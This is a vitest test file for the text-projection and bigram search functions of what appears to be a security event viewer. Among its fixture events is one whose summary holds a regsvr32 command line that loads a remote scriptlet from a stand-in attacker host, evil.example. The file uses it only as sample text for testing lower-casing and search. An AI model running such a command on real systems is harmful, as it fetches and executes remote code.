import {describe, expect, it} from 'vitest';
import {
	BIGRAM_BITS,
	bigramHash,
	bigramsOf,
	hasBigram,
	projectedFields,
	projectionOf,
	projectionPieces,
	projectionText,
	textIncludes,
} from '../../../source/core/view/projection.js';
import {compileTerm, termMatches} from '../../../source/core/view/text-match.js';
import {makeEvent} from './make-event.js';

// The projection as it was first built: one joined, lower-cased text per event and its bitmap.
// The pieces must read exactly the same.
function joinedText(fields: string[]): string {
	const pieces: string[] = [];
	let total = 0;
	for (const part of fields) {
		if (!part) continue;
		const piece = part.length > 400 ? part.slice(0, 400) : part;
		pieces.push(piece);
		total += piece.length + 1;
		if (total >= 1500) break;
	}
	return pieces.join('\n').toLowerCase();
}

function joinedBigrams(text: string): Set<number> {
	const out = new Set<number>();
	for (let i = 1; i < text.length; i++) out.add(bigramHash(text.charCodeAt(i - 1), text.charCodeAt(i)));
	return out;
}

const events = [
	makeEvent(1, {
		summary: 'Explorer.EXE -> REGSVR32.exe /s /u /i:http://Evil.example/a.sct scrobj.dll',
		host: 'WS-FIN-01',
		user: 'CORP\\Alice',
		actor: {image: 'C:\\Windows\\explorer.exe', cmdline: 'C:\\Windows\\Explorer.EXE'},
		target: {process: {image: 'C:\\Windows\\System32\\regsvr32.exe', cmdline: 'regsvr32 /s /u scrobj.dll'}},
	}),
	makeEvent(2, {
		summary: 'chrome.exe DNS Evil.Example -> 93.184.216.34',
		host: 'WS-FIN-01',
		target: {dns: {query: 'Evil.Example'}},
	}),
	makeEvent(3, {summary: 'x'.repeat(700), host: 'y'.repeat(500), user: 'z'.repeat(450), target: {file: {path: 'P'}}}),
	makeEvent(4, {summary: '', target: {}}),
	makeEvent(5, {summary: 'İstanbul ΣΊΣΥΦΟΣ', host: 'Ünïcode'}),
];

describe('projection', () => {
	it('reads as the joined lower-cased text of the fields, cut the same way', () => {
		for (const ev of events) expect(projectionText(projectionOf(ev))).toBe(joinedText(projectedFields(ev)));
	});

	it('has the bigram bitmap of the joined text, newlines between pieces included', () => {
		for (const ev of events) {
			const p = projectionOf(ev);
			const bits = bigramsOf(p);
			expect(bits).toHaveLength(BIGRAM_BITS / 8);
			const want = joinedBigrams(projectionText(p));
			for (let h = 0; h < BIGRAM_BITS; h++) expect(hasBigram(bits, h)).toBe(want.has(h));
			expect(bigramsOf(p)).toBe(bits);
		}
	});

	it('keeps each field a lower-cased piece of its own, in order', () => {
		const p = projectionOf(events[0]!);
		expect(projectionPieces(p).slice(0, 3)).toEqual([
			'explorer.exe -> regsvr32.exe /s /u /i:http://evil.example/a.sct scrobj.dll',
			'ws-fin-01',
			'corp\\alice',
		]);
		expect(projectionPieces(projectionOf(events[3]!))).toEqual([]);
	});

	it('finds text inside one piece, and a needle with a newline across two', () => {
		const p = projectionOf(events[1]!);
		expect(textIncludes(p, 'evil.example ->')).toBe(true);
		expect(textIncludes(p, '93.184.216.34\nws-fin-01')).toBe(true);
		expect(textIncludes(p, '216.34ws-fin')).toBe(false);
		expect(termMatches(compileTerm({text: 'ws-fin-01\nevil', exact: true}), events[1]!)).toBe(true);
		expect(termMatches(compileTerm({text: 'evl.example', exact: false}), events[1]!)).toBe(true);
	});
});
